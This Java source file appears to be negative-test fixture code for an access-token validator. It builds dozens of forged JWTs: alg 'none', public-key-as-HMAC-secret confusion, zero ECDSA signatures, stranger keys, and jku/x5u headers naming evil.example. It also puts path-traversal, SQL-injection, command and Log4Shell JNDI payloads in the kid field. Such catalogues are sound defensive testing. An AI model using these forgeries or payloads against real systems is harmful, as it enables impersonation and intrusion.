package org.continuum.access;

import static org.continuum.access.Forger.base64;
import static org.continuum.access.Forger.bytes;
import static org.continuum.access.Forger.claims;
import static org.continuum.access.Forger.header;
import static org.continuum.access.Forger.number;
import static org.continuum.access.Forger.pair;
import static org.continuum.access.Forger.pem;
import static org.continuum.access.Forger.secret;
import static org.continuum.access.Forger.signed;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.function.Consumer;
import org.jose4j.jwe.JsonWebEncryption;
import org.jose4j.lang.JoseException;

/**
 * A token that must not be believed. Where nothing else is said it is good but for what its name says, and signed with
 * the issuer's own key, so that no other check can refuse it in passing.
 */
public record Forgery(String name, String token) {
    private static final ObjectMapper JSON = new ObjectMapper();

    public static List<Forgery> all(Forger issuer) {
        Table table = new Table(issuer);
        table.noSignature();
        table.publicKeyAsSecret();
        table.algorithms();
        table.signatures();
        table.foreignKeys();
        table.keyIds();
        table.headers();
        table.types();
        table.spellings();
        table.sameNameTwice();
        table.issuers();
        table.audiences();
        table.times();
        table.subjects();
        table.organizations();
        table.persons();
        table.anotherPerson();
        table.roles();
        table.unreadable();
        return List.copyOf(table.all);
    }

    @Override
    public String toString() {
        return name;
    }

    private static final class Table {
        private final Forger issuer;
        private final List<Forgery> all = new ArrayList<>();
        private final KeyPair strangersRsa = pair("RSA");
        private final KeyPair strangersEc = pair("EC");
        private final KeyPair strangersEd = pair("Ed25519");
        private final String good = claims(claims -> {});

        Table(Forger issuer) {
            this.issuer = issuer;
        }

        void noSignature() {
            String signature = issuer.good().split("\\.")[2];
            for (String none : List.of("none", "None", "NONE", "nOnE", "none ", "")) {
                String start = base64(bytes(header(none, "rsa"))) + "." + base64(bytes(good)) + ".";
                add("alg '" + none + "', no signature", start);
                add("alg '" + none + "' before another token's signature", start + signature);
            }
            raw("no alg", header(header -> header.remove("alg")), good);
            raw("alg null", header(header -> header.putNull("alg")), good);
            raw("alg a list", header(header -> header.putArray("alg").add("RS256")), good);
            String unsigned = issuer.good().substring(0, issuer.good().lastIndexOf('.') + 1);
            add("signature left out", unsigned);
            add("signature and its dot left out", unsigned.substring(0, unsigned.length() - 1));
        }

        void publicKeyAsSecret() {
            byte[] der = issuer.rsa.getPublic().getEncoded();
            String pem = pem(issuer.rsa.getPublic());
            hmac("HS256", "the RSA key's PEM as secret", bytes(pem));
            hmac("HS256", "the RSA key's PEM, trimmed, as secret", bytes(pem.strip()));
            hmac("HS256", "the RSA key's PEM in one line as secret", bytes(pem.replace("\n", "")));
            hmac("HS256", "the RSA key's DER as secret", der);
            hmac(
                    "HS256",
                    "the RSA key's DER in base64 as secret",
                    Base64.getEncoder().encode(der));
            hmac(
                    "HS256",
                    "the RSA modulus as secret",
                    ((RSAPublicKey) issuer.rsa.getPublic()).getModulus().toByteArray());
            hmac("HS256", "the published key set as secret", bytes(issuer.jwks()));
            hmac("HS384", "the RSA key's PEM as secret", bytes(pem));
            hmac("HS512", "the RSA key's DER as secret", der);
            hmac("HS256", "a zero byte as secret", new byte[1]);
            hmac("HS256", "the word secret as secret", bytes("secret"));
            add(
                    "alg HS256 with the EC key's DER as secret, kid ec",
                    signed(
                            header("HS256", "ec"),
                            good,
                            "HS256",
                            secret(issuer.ec.getPublic().getEncoded())));
            add(
                    "alg RS256 over an HMAC by the RSA key's PEM",
                    signed(header("RS256", "rsa"), good, "HS256", secret(bytes(pem))));
        }

        private void hmac(String algorithm, String how, byte[] secret) {
            add("alg " + algorithm + ", " + how, signed(header(algorithm, "rsa"), good, algorithm, secret(secret)));
        }

        void algorithms() {
            var rsa = issuer.rsa.getPrivate();
            var ec = issuer.ec.getPrivate();
            add("alg RS384, not on the list", signed(header("RS384", "rsa"), good, "RS384", rsa));
            add("alg RS512, not on the list", signed(header("RS512", "rsa"), good, "RS512", rsa));
            add("alg RS1 (SHA-1)", signed(header("RS1", "rsa"), good, "RS1", rsa));
            add("alg PS256, not on the list", signed(header("PS256", "rsa"), good, "RSASSA-PSS", rsa));
            add("alg RS256 over a PS256 signature", signed(header("RS256", "rsa"), good, "RSASSA-PSS", rsa));
            add("alg RS256 over a SHA-1 signature", signed(header("RS256", "rsa"), good, "RS1", rsa));
            add("alg ES256 over an RSA signature, kid rsa", signed(header("ES256", "rsa"), good, "RS256", rsa));
            add("alg ES256 over an RSA signature, kid ec", signed(header("ES256", "ec"), good, "RS256", rsa));
            add("alg RS256 over an EC signature, kid ec", signed(header("RS256", "ec"), good, "ES256", ec));
            add("alg EdDSA over an EC signature, kid ed", signed(header("EdDSA", "ed"), good, "ES256", ec));
            add("alg ES384 over a P-256 signature", signed(header("ES384", "ec"), good, "ES256", ec));
            add("alg ES256K over a P-256 signature", signed(header("ES256K", "ec"), good, "ES256", ec));
            add("alg in lower case", issuer.rs256(header("rs256", "rsa"), good));
            add("alg with a space behind", issuer.rs256(header("RS256 ", "rsa"), good));
            add("alg with U+0000 behind", issuer.rs256(header("RS256\u0000", "rsa"), good));
            add("alg unknown", issuer.rs256(header("XX999", "rsa"), good));
        }

        void signatures() {
            String ec = base64(bytes(header("ES256", "ec"))) + "." + base64(bytes(good)) + ".";
            BigInteger order = ((ECPublicKey) issuer.ec.getPublic()).getParams().getOrder();
            byte[] valid = Forger.signature(ec.substring(0, ec.length() - 1), "ES256", issuer.ec.getPrivate());
            add("ES256 with r = s = 0 (psychic signature)", ec + base64(new byte[64]));
            add("ES256 with r = s = n", ec + base64(joined(number(order, 32), number(order, 32))));
            add("ES256 with r = 0", ec + base64(joined(new byte[32], tail(valid))));
            add("ES256 with r = s = 1", ec + base64(joined(number(BigInteger.ONE, 32), number(BigInteger.ONE, 32))));
            add(
                    "ES256 with its signature in DER",
                    signed(header("ES256", "ec"), good, "SHA256withECDSA", issuer.ec.getPrivate()));
            add("ES256 with half a signature", ec + base64(java.util.Arrays.copyOf(valid, 32)));
            add("ES256 with a zero byte behind its signature", ec + base64(java.util.Arrays.copyOf(valid, 65)));
            String ed = base64(bytes(header("EdDSA", "ed"))) + "." + base64(bytes(good)) + ".";
            add("EdDSA with a signature of zeros", ed + base64(new byte[64]));
            String rsa = base64(bytes(header("RS256", "rsa"))) + "." + base64(bytes(good)) + ".";
            byte[] right = Forger.signature(rsa.substring(0, rsa.length() - 1), "RS256", issuer.rsa.getPrivate());
            BigInteger modulus = ((RSAPublicKey) issuer.rsa.getPublic()).getModulus();
            add("RS256 with signature 0", rsa + base64(new byte[256]));
            add("RS256 with signature 1", rsa + base64(number(BigInteger.ONE, 256)));
            add(
                    "RS256 with its signature plus the modulus",
                    rsa + base64(new BigInteger(1, right).add(modulus).toByteArray()));
            add("RS256 with its signature cut short", rsa + base64(java.util.Arrays.copyOf(right, 255)));
            byte[] flipped = right.clone();
            flipped[100] ^= 1;
            add("RS256 with one bit of its signature flipped", rsa + base64(flipped));
            String other = issuer.rs256(header(header -> {}), claims(claims -> claims.put("sub", "eve")));
            add("signature of another token", rsa + other.split("\\.")[2]);
            add(
                    "claims of another token",
                    rsa.split("\\.")[0] + "." + base64(bytes(claims(claims -> claims.put("sub", "admin")))) + "."
                            + base64(right));
            add(
                    "header of another token",
                    base64(bytes(header(header -> header.put("x", 1)))) + "." + base64(bytes(good)) + "."
                            + base64(right));
        }

        void foreignKeys() {
            var stranger = strangersRsa.getPrivate();
            add("a stranger's RSA key under the issuer's kid", signed(header("RS256", "rsa"), good, "RS256", stranger));
            add("a stranger's EC key", signed(header("ES256", "ec"), good, "ES256", strangersEc.getPrivate()));
            add("a stranger's Ed25519 key", signed(header("EdDSA", "ed"), good, "EdDSA", strangersEd.getPrivate()));
            add("a stranger's key and kid", signed(header("RS256", "mine"), good, "RS256", stranger));
            String jwk = Forger.named("mine", strangersRsa).toJson();
            String chain =
                    Base64.getEncoder().encodeToString(strangersRsa.getPublic().getEncoded());
            for (String key : List.of("rsa", "mine")) {
                stranger("jwk, the stranger's key itself, kid " + key, key, header -> header.set("jwk", json(jwk)));
                stranger(
                        "x5c, a chain of the stranger's, kid " + key,
                        key,
                        header -> header.putArray("x5c").add(chain));
                stranger(
                        "jku, where the stranger publishes, kid " + key,
                        key,
                        header -> header.put("jku", "https://evil.example/jwks"));
                stranger("jku within this host, kid " + key, key, header -> header.put("jku", "http://127.0.0.1/jwks"));
                stranger(
                        "x5u, a chain of the stranger's, kid " + key,
                        key,
                        header -> header.put("x5u", "https://evil.example/chain"));
            }
        }

        private void stranger(String what, String key, Consumer<ObjectNode> change) {
            String header = header(change.andThen(one -> one.put("kid", key)));
            add("signed by a stranger, " + what, signed(header, good, "RS256", strangersRsa.getPrivate()));
        }

        void keyIds() {
            for (String id : List.of(
                    "../../../../../../dev/null",
                    "..%2f..%2fetc%2fpasswd",
                    "file:///dev/null",
                    "/proc/sys/kernel/randomize_va_space",
                    "' OR '1'='1",
                    "x' UNION SELECT 'secret' --",
                    "https://evil.example/key",
                    "|/usr/bin/id",
                    "${jndi:ldap://evil.example/a}",
                    "rsa\u0000",
                    "rsa ",
                    "RSA",
                    "")) {
                raw("kid " + JSON.createObjectNode().put("", id).get(""), header("RS256", id), good);
            }
            raw("kid of 4000 characters", header("RS256", "k".repeat(4000)), good);
            raw("kid a number", header(header -> header.put("kid", 0)), good);
            raw("kid a list", header(header -> header.putArray("kid").add("rsa")), good);
            raw("kid an object", header(header -> header.putObject("kid").put("rsa", "rsa")), good);
        }

        void headers() {
            raw("jku, though well signed", header(header -> header.put("jku", "https://evil.example/jwks")), good);
            raw("x5u, though well signed", header(header -> header.put("x5u", "https://evil.example/chain")), good);
            raw(
                    "jwk, the issuer's own",
                    header(header -> header.set(
                            "jwk", json(Forger.named("rsa", issuer.rsa).toJson()))),
                    good);
            raw(
                    "crit names an extension that we do not know",
                    header(header -> header.put("x", 1).putArray("crit").add("x")),
                    good);
            raw("crit empty", header(header -> header.putArray("crit")), good);
            raw(
                    "crit b64, claims not encoded",
                    header(header -> header.put("b64", false).putArray("crit").add("b64")),
                    good);
            raw("b64 false without crit", header(header -> header.put("b64", false)), good);
            raw("zip", header(header -> header.put("zip", "DEF")), good);
            raw("enc in a signed token", header(header -> header.put("enc", "A128GCM")), good);
            raw("a token within the token, cty JWT", header(header -> header.put("cty", "JWT")), issuer.good());
            raw("a token within the token, no cty", header(header -> {}), issuer.good());
            add("encrypted to the issuer's public key, claims within (JWE)", encrypted(good, false));
            add(
                    "encrypted to the issuer's public key, a good token within (nested JWE)",
                    encrypted(issuer.good(), true));
        }

        private String encrypted(String content, boolean nested) {
            try {
                JsonWebEncryption token = new JsonWebEncryption();
                token.setAlgorithmHeaderValue("RSA-OAEP-256");
                token.setEncryptionMethodHeaderParameter("A128CBC-HS256");
                token.setHeader("typ", "at+jwt");
                token.setKeyIdHeaderValue("rsa");
                if (nested) {
                    token.setContentTypeHeaderValue("JWT");
                }
                token.setKey(issuer.rsa.getPublic());
                token.setPayload(content);
                return token.getCompactSerialization();
            } catch (JoseException e) {
                throw new IllegalStateException(e);
            }
        }

        void types() {
            for (String type : List.of(
                    "JWT",
                    "jwt",
                    "id+jwt",
                    "logout+jwt",
                    "secevent+jwt",
                    "dpop+jwt",
                    "jwt+at",
                    "at+jwt ",
                    "at+jwt;x",
                    "Refresh",
                    "application/jwt",
                    "")) {
                raw("typ '" + type + "'", header(header -> header.put("typ", type)), good);
            }
            raw("no typ", header(header -> header.remove("typ")), good);
            raw("typ null", header(header -> header.putNull("typ")), good);
            raw("typ a list", header(header -> header.putArray("typ").add("at+jwt")), good);
            raw(
                    "the issuer's ID token for us",
                    header(header -> header.put("typ", "JWT")),
                    claims(claims -> claims.put("nonce", "n").put("azp", "continuum")));
        }

        void spellings() {
            String token = issuer.good();
            String[] parts = token.split("\\.");
            add("'=' behind the signature", token + "=");
            add("'==' behind the signature", token + "==");
            add("'=' behind the header", parts[0] + "=." + parts[1] + "." + parts[2]);
            add("'!' within the signature", parts[0] + "." + parts[1] + "." + inserted(parts[2], "!"));
            add("a space within the claims", parts[0] + "." + inserted(parts[1], " ") + "." + parts[2]);
            add("a tab within the signature", parts[0] + "." + parts[1] + "." + inserted(parts[2], "\t"));
            add(
                    "a letter that is not ASCII within the signature",
                    parts[0] + "." + parts[1] + "." + inserted(parts[2], "\u00e4"));
            add("the signature in the other base64 alphabet", inOtherAlphabet());
            add(
                    "another last character for the same bytes",
                    token.substring(0, token.length() - 1) + (char) (token.charAt(token.length() - 1) + 1));
            add("a dot behind", token + ".");
            add("a dot in front", "." + token);
            add("a fourth part", token + "." + parts[2]);
            add("the claims twice", parts[0] + "." + parts[1] + "." + parts[1] + "." + parts[2]);
            add("two good tokens with a comma", token + "," + token);
            add("two good tokens with a space", token + " " + token);
            add("in quotes", '"' + token + '"');
            add(
                    "in JSON serialization",
                    "{\"protected\":\"" + parts[0] + "\",\"payload\":\"" + parts[1] + "\",\"signature\":\"" + parts[2]
                            + "\"}");
            add("half of it", token.substring(0, token.length() / 2));
            add("dots only", "..");
            add("many dots", ".".repeat(2000));
            add("a word", "token");
            add(
                    "9 kB, well signed",
                    issuer.rs256(header(header -> {}), claims(claims -> claims.put("x", "x".repeat(6600)))));
            add("12 kB of one letter", "x".repeat(12_000));
        }

        /** Signed again and again, until the signature has a letter that the two alphabets write differently. */
        private String inOtherAlphabet() {
            String[] parts = {"", "", ""};
            for (int i = 0; !parts[2].contains("-") && !parts[2].contains("_"); i++) {
                String sub = "ann" + i;
                parts = issuer.rs256(header(header -> {}), claims(claims -> claims.put("sub", sub)))
                        .split("\\.");
            }
            return parts[0] + "." + parts[1] + "." + parts[2].replace('-', '+').replace('_', '/');
        }

        void sameNameTwice() {
            String header = header(one -> {});
            raw("alg twice, none first", "{\"alg\":\"none\"," + header.substring(1), good);
            raw("alg twice, none last", header.replace("}", ",\"alg\":\"none\"}"), good);
            raw("kid twice", "{\"kid\":\"ec\"," + header.substring(1), good);
            raw("typ twice", "{\"typ\":\"JWT\"," + header.substring(1), good);
            twice("groups", "[\"auditor\"]");
            twice("organization", "\"00000000-0000-0000-0000-000000000001\"");
            twice("sub", "\"admin\"");
            twice("exp", "1");
            twice("iss", "\"https://evil.example\"");
            twice("aud", "\"another\"");
            raw("groups twice, once with an escape", header, "{\"gro\\u0075ps\":[\"auditor\"]," + good.substring(1));
        }

        private void twice(String claim, String value) {
            String header = header(one -> {});
            raw(claim + " twice, the true one last", header, "{\"" + claim + "\":" + value + "," + good.substring(1));
            raw(
                    claim + " twice, the true one first",
                    header,
                    good.substring(0, good.length() - 1) + ",\"" + claim + "\":" + value + "}");
        }

        void issuers() {
            for (String other : List.of(
                    Forger.ISSUER + "/",
                    Forger.ISSUER + ".evil.example",
                    Forger.ISSUER.substring(0, Forger.ISSUER.length() - 1),
                    Forger.ISSUER.replace("identity", "Identity"),
                    Forger.ISSUER.replace("https", "http"),
                    Forger.ISSUER + "#",
                    " " + Forger.ISSUER,
                    "https://evil.example",
                    "")) {
                changed("iss '" + other + "'", claims -> claims.put("iss", other));
            }
            changed("no iss", claims -> claims.remove("iss"));
            changed("iss null", claims -> claims.putNull("iss"));
            changed(
                    "iss a list with the issuer",
                    claims -> claims.putArray("iss").add(Forger.ISSUER));
        }

        void audiences() {
            for (String other :
                    List.of("another", "continuum-admin", "CONTINUUM", " continuum", "continuum,another", "*", "")) {
                changed("aud '" + other + "'", claims -> claims.put("aud", other));
            }
            changed("no aud", claims -> claims.remove("aud"));
            changed("aud null", claims -> claims.putNull("aud"));
            changed("aud an empty list", claims -> claims.putArray("aud"));
            changed(
                    "aud a list without us",
                    claims -> claims.putArray("aud").add("a").add("b"));
            changed("aud an object", claims -> claims.putObject("aud").put("continuum", true));
            changed(
                    "aud a list of a list",
                    claims -> claims.putArray("aud").addArray().add("continuum"));
        }

        void times() {
            long now = Instant.now().getEpochSecond();
            changed("no exp", claims -> claims.remove("exp"));
            changed("exp past", claims -> claims.put("iat", now - 600).put("exp", now - 60));
            changed("exp past by years", claims -> claims.put("iat", 1).put("exp", 2));
            changed("exp 0", claims -> claims.put("exp", 0));
            changed("exp negative", claims -> claims.put("exp", -now));
            changed("exp null", claims -> claims.putNull("exp"));
            changed("exp true", claims -> claims.put("exp", true));
            changed("exp a text", claims -> claims.put("exp", Long.toString(now + 3000)));
            changed("exp with a fraction", claims -> claims.put("exp", now + 3000.5));
            changed("exp a list", claims -> claims.putArray("exp").add(now + 3000));
            for (String number : List.of(
                    "NaN",
                    "Infinity",
                    "1e400",
                    "9".repeat(400),
                    "9223372036854775807",
                    "18446744073709551617",
                    "1e10")) {
                String value = number.length() > 30 ? "of 400 digits" : number;
                raw(
                        "exp " + value,
                        header(header -> {}),
                        claims(claims -> claims.put("exp", 7)).replace("\"exp\":7", "\"exp\":" + number));
            }
            changed(
                    "a life of one second more than an hour",
                    claims -> claims.put("iat", now).put("exp", now + 3601));
            changed("a life of ten years", claims -> claims.put("exp", now + 315_360_000));
            changed(
                    "a life of ten years, most of it past",
                    claims -> claims.put("iat", now - 315_360_000).put("exp", now + 60));
            changed("no iat", claims -> claims.remove("iat"));
            changed("iat in the future", claims -> claims.put("iat", now + 600));
            changed("iat a text", claims -> claims.put("iat", Long.toString(now)));
            changed("iat negative", claims -> claims.put("iat", -1));
            changed("nbf in the future", claims -> claims.put("nbf", now + 600));
            changed("nbf a text", claims -> claims.put("nbf", "now"));
            changed("nbf null", claims -> claims.putNull("nbf"));
        }

        void subjects() {
            changed("no sub", claims -> claims.remove("sub"));
            changed("no sub, but a upn", claims -> claims.put("upn", "ann").remove("sub"));
            changed("sub null", claims -> claims.putNull("sub"));
            changed("sub empty", claims -> claims.put("sub", ""));
            changed("sub a number", claims -> claims.put("sub", 1));
            changed("sub a list", claims -> claims.putArray("sub").add("ann"));
            changed("sub with a line feed", claims -> claims.put("sub", "ann\nadmin"));
            changed("sub with U+0000", claims -> claims.put("sub", "ann\u0000"));
            changed("sub with a letter that is not ASCII", claims -> claims.put("sub", "\u0430nn"));
            changed("sub of 300 characters", claims -> claims.put("sub", "x".repeat(300)));
            changed("name a list", claims -> claims.putArray("name").add("Ann"));
            changed("name with an escape character", claims -> claims.put("name", "\u001b[31mAnn"));
            raw("name with half a surrogate pair", header(header -> {}), good.replace("\"Ann\"", "\"Ann\\ud800\""));
            changed("name of 300 characters", claims -> claims.put("name", "x".repeat(300)));
        }

        void organizations() {
            String id = "0198c0de-aaaa-7bbb-8ccc-ddddeeeeffff";
            changed("no organization", claims -> claims.remove("organization"));
            changed("organization null", claims -> claims.putNull("organization"));
            for (String other : List.of(
                    "",
                    "university",
                    "*",
                    id.toUpperCase(java.util.Locale.ROOT),
                    "{" + id + "}",
                    "urn:uuid:" + id,
                    id.replace("-", ""),
                    id + "\n",
                    id + "'",
                    " " + id,
                    "1-1-1-1-1")) {
                changed(
                        "organization " + JSON.createObjectNode().put("", other).get(""),
                        claims -> claims.put("organization", other));
            }
            changed("organization a number", claims -> claims.put("organization", 7));
            changed(
                    "organization a list",
                    claims -> claims.putArray("organization").add(id));
            changed(
                    "organization an object",
                    claims -> claims.putObject("organization").put("id", id));
        }

        /** A person's own token that says one thing wrong of whom it is for. */
        void persons() {
            String id = "0198c0de-aaaa-7bbb-8ccc-ddddeeeeffff";
            for (String other : List.of(
                    "",
                    "herself",
                    "*",
                    "Ana Silva",
                    id.toUpperCase(java.util.Locale.ROOT),
                    "{" + id + "}",
                    "urn:uuid:" + id,
                    "/people/" + id,
                    id.replace("-", ""),
                    id + "\n",
                    id + "\u0000",
                    id + "'",
                    id + "," + id,
                    " " + id,
                    "1-1-1-1-1")) {
                herself(
                        "person " + JSON.createObjectNode().put("", other).get(""),
                        claims -> claims.put("person", other));
            }
            herself("person null", claims -> claims.putNull("person"));
            herself("person left out", claims -> claims.remove("person"));
            herself("person a number", claims -> claims.put("person", 7));
            herself("person true", claims -> claims.put("person", true));
            herself("person a list of her", claims -> claims.putArray("person").add(id));
            herself(
                    "person a list of two",
                    claims -> claims.putArray("person").add(id).add(Forger.ORGANIZATION));
            herself("person an empty list", claims -> claims.putArray("person"));
            herself("person an object", claims -> claims.putObject("person").put("id", id));
            herself("person and organization", claims -> claims.put("organization", Forger.ORGANIZATION));
            herself("person and the same as organization", claims -> claims.put("organization", id));
            herself(
                    "person and an organization that is a list",
                    claims -> claims.putArray("organization").add(id));
            herself(
                    "person as organization",
                    claims -> claims.put("organization", id).remove("person"));
            herself(
                    "person in the case of a header",
                    claims -> claims.put("Person", id).remove("person"));
            herself(
                    "person with a space behind its name",
                    claims -> claims.put("person ", id).remove("person"));
            herself(
                    "person within an object",
                    claims -> claims.putObject("claims").set("person", claims.remove("person")));
            for (List<String> roles : List.of(
                    List.<String>of(),
                    List.of("operator"),
                    List.of("person", "operator"),
                    List.of("person", "board-decider"),
                    List.of("Person"),
                    List.of("person "),
                    List.of("persons"),
                    List.of("any"),
                    List.of("public"),
                    List.of("self"))) {
                herself("person in the roles " + roles, claims -> {
                    var groups = claims.putArray("groups");
                    roles.forEach(groups::add);
                });
            }
            herself("person without groups", claims -> claims.remove("groups"));
            herself("person with groups a text", claims -> claims.put("groups", "person"));
            changed(
                    "an organization in the role person",
                    claims -> claims.putArray("groups").add("person"));
            changed(
                    "an organization in the role person too",
                    claims -> claims.withArray("groups").add("person"));
            changed("an organization with a person beside it", claims -> claims.put("person", id));
            changed(
                    "a mentor who does not say who she is",
                    claims -> claims.putArray("groups").add("mentor"));
            changed("a mentor who is a list", claims -> {
                claims.putArray("groups").add("mentor");
                claims.putArray("person").add(id);
            });
            changed("a mentor in a second role", claims -> {
                claims.putArray("groups").add("mentor").add("district-hr");
                claims.put("person", id);
            });
            herself(
                    "a mentor of no organization",
                    claims -> claims.putArray("groups").add("mentor"));
            changed(
                    "an organization with a person null and the role",
                    claims -> claims.putNull("person").putArray("groups").add("person"));
            String header = header(one -> {});
            String hers = herself(claims -> {});
            String another = "\"" + Forger.ORGANIZATION + "\"";
            raw("person twice, hers last", header, "{\"person\":" + another + "," + hers.substring(1));
            raw("person twice, hers first", header, hers.replaceFirst("}$", ",\"person\":" + another + "}"));
            raw("person twice, once with an escape", header, "{\"p\\u0065rson\":" + another + "," + hers.substring(1));
        }

        /** A person's own token that is another's, or of somebody who may not say who she is. */
        void anotherPerson() {
            String hers = herself(claims -> {});
            String anothers = herself(claims -> claims.put("person", Forger.ORGANIZATION));
            String[] parts = issuer.rs256(header(one -> {}), hers).split("\\.");
            add(
                    "another person's claims before her signature",
                    parts[0] + "." + base64(bytes(anothers)) + "." + parts[2]);
            add("her claims, alg none", base64(bytes(header("none", "rsa"))) + "." + base64(bytes(hers)) + ".");
            add(
                    "her claims, signed by a stranger",
                    signed(header("RS256", "rsa"), hers, "RS256", strangersRsa.getPrivate()));
            add(
                    "her claims, the RSA key's PEM as secret",
                    signed(header("HS256", "rsa"), hers, "HS256", secret(bytes(pem(issuer.rsa.getPublic())))));
            raw("her ID token", header(header -> header.put("typ", "JWT")), hers);
            herself("her token of another issuer", claims -> claims.put("iss", "https://evil.example"));
            herself("her token of no issuer", claims -> claims.remove("iss"));
            herself("her token for another audience", claims -> claims.put("aud", "another"));
            herself("her token without a subject", claims -> claims.remove("sub"));
            herself(
                    "her token, which has run out",
                    claims -> claims.put("iat", 1).put("exp", 2));
            herself(
                    "her token for ten years",
                    claims -> claims.put("exp", claims.get("iat").asLong() + 315_360_000));
        }

        private void herself(String name, Consumer<ObjectNode> change) {
            raw(name, header(header -> {}), herself(change));
        }

        private static String herself(Consumer<ObjectNode> change) {
            return claims(Forger.HERSELF.andThen(change));
        }

        void roles() {
            changed("groups a text", claims -> claims.put("groups", "operator"));
            changed("groups a text of two", claims -> claims.put("groups", "operator auditor"));
            changed("groups an object", claims -> claims.putObject("groups").put("operator", true));
            changed("groups null", claims -> claims.putNull("groups"));
            changed("groups true", claims -> claims.put("groups", true));
            changed(
                    "groups a list of numbers",
                    claims -> claims.putArray("groups").add(1));
            changed(
                    "groups a list of a list",
                    claims -> claims.putArray("groups").addArray().add("operator"));
            changed(
                    "groups with an empty name",
                    claims -> claims.putArray("groups").add("operator").add(""));
            changed(
                    "groups with a control character",
                    claims -> claims.putArray("groups").add("operator\u0000"));
            changed(
                    "groups with a name of 300 characters",
                    claims -> claims.putArray("groups").add("x".repeat(300)));
            changed("groups with 101 names", claims -> groups(claims, 101));
            changed("groups with 1000 names", claims -> groups(claims, 1000));
        }

        private static void groups(ObjectNode claims, int count) {
            var groups = claims.putArray("groups").add("operator");
            while (groups.size() < count) {
                groups.add("g" + groups.size());
            }
        }

        void unreadable() {
            String header = header(one -> {});
            raw("claims are no JSON", header, "operator");
            raw("claims are a list", header, "[" + good + "]");
            raw("claims are null", header, "null");
            raw("claims are an empty object", header, "{}");
            raw("claims with something behind", header, good + "{}");
            raw("claims with a comment", header, "/* */" + good);
            raw("claims half", header, good.substring(0, good.length() - 1));
            raw("claims with NaN", header, "{\"x\":NaN," + good.substring(1));
            raw(
                    "claims nested 2000 deep",
                    header,
                    "{\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "," + good.substring(1));
            raw("claims behind a byte order mark", header, "\ufeff" + good);
            add("claims in UTF-16", signedBytes(good.getBytes(StandardCharsets.UTF_16)));
            byte[] broken = bytes(good.replace("Ann", "A#n"));
            broken[good.indexOf("Ann") + 1] = (byte) 0xC3;
            add("claims in bytes that are not UTF-8", signedBytes(broken));
            raw("header is a list", "[" + header + "]", good);
            raw("header is null", "null", good);
            raw("header with something behind", header + "{}", good);
            raw("header is no JSON", "RS256", good);
            raw("header is empty", "{}", good);
        }

        private String signedBytes(byte[] claims) {
            return signed(header(one -> {}), claims, "RS256", issuer.rsa.getPrivate());
        }

        private void changed(String name, Consumer<ObjectNode> change) {
            raw(name, header(header -> {}), claims(change));
        }

        /** Header and claims as they are written here, and the issuer's own signature. */
        private void raw(String name, String header, String claims) {
            add(name, issuer.rs256(header, claims));
        }

        private void add(String name, String token) {
            all.add(new Forgery(name, token));
        }

        private static String inserted(String text, String what) {
            return text.substring(0, 10) + what + text.substring(10);
        }

        private static byte[] joined(byte[] first, byte[] second) {
            byte[] both = java.util.Arrays.copyOf(first, first.length + second.length);
            System.arraycopy(second, 0, both, first.length, second.length);
            return both;
        }

        private static byte[] tail(byte[] signature) {
            return java.util.Arrays.copyOfRange(signature, 32, 64);
        }

        private static JsonNode json(String text) {
            try {
                return JSON.readTree(text);
            } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
                throw new IllegalStateException(e);
            }
        }
    }
}
